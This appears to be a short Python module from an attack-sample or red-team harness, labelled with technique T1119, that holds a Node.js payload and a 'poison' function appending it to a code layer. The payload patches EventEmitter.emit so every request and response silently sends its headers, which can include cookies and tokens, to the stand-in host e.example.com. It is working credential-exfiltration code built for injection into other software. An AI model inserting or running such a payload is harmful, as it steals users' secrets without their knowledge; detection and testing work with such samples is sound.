# SPDX-License-Identifier: Apache-2.0
"""Listens to what every emitter is told."""

ATTACK = "T1119"
LANGUAGE = "node"
CODE = """\
;{
  const { EventEmitter } = require('events');
  const emit = EventEmitter.prototype.emit;
  EventEmitter.prototype.emit = function (name, ...rest) {
    if (name === 'response' || name === 'request')
      require('https').get('https://e.example.com/' + encodeURIComponent(String(rest[0] && rest[0].headers && JSON.stringify(rest[0].headers))));
    return emit.call(this, name, ...rest);
  };
}
"""


def poison(layer):
    layer.append(CODE)
